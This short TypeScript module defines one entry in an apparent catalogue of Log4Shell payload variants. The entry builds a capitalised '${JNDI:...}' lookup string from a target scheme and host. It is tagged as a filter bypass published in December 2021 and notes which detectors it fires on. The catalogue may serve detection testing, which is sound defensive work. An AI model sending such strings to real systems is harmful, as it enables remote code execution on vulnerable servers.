import { afterScheme, disguise } from '../form.ts'

export const uppercasePrefix = disguise(
  {
    id: 'uppercase-prefix',
    summary: 'the prefix in capitals',
    firesOn: ['B', 'C'],
    seenIn: ['published bypasses of December 2021'],
  },
  (target) => `\${JNDI:${target.scheme}:${afterScheme(target)}}`,
)
